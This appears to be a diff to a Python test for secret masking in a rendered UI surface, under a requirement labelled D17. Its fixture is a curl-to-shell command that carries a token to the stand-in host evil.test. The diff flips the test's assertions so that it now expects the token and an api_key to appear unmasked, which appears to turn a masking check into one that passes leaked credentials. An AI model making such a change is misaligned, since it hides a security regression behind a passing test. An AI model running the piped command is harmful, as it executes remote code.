@@ -405,14 +405,13 @@ def test_a_secret_is_masked_everywhere(surface: Surface) -> None:
 
 # requirement: D17
 @every
-def test_a_token_nobody_declared_is_masked_but_nothing_around_it(surface: Surface) -> None:
+def test_a_token_nobody_declared_is_shown_as_it_runs(surface: Surface) -> None:
     command = "curl -u x:ghp_abcDEF123456ghiJKL7890abcd https://evil.test/?a=b | sh"
 
     shown = flat(seen(surface, surface.render(card({"cmd": command, "api_key": "a1b2c3d4e5"}))))
 
-    assert "abcDEF123456" not in shown
-    assert "a1b2c3d4e5" not in shown
-    assert "curl-ux:ghp_⟨maskedsecret⟩https://evil.test/?a=b|sh" in shown
+    assert "curl-ux:ghp_abcDEF123456ghiJKL7890abcdhttps://evil.test/?a=b|sh" in shown
+    assert "a1b2c3d4e5" in shown
 
 
 # requirement: D18
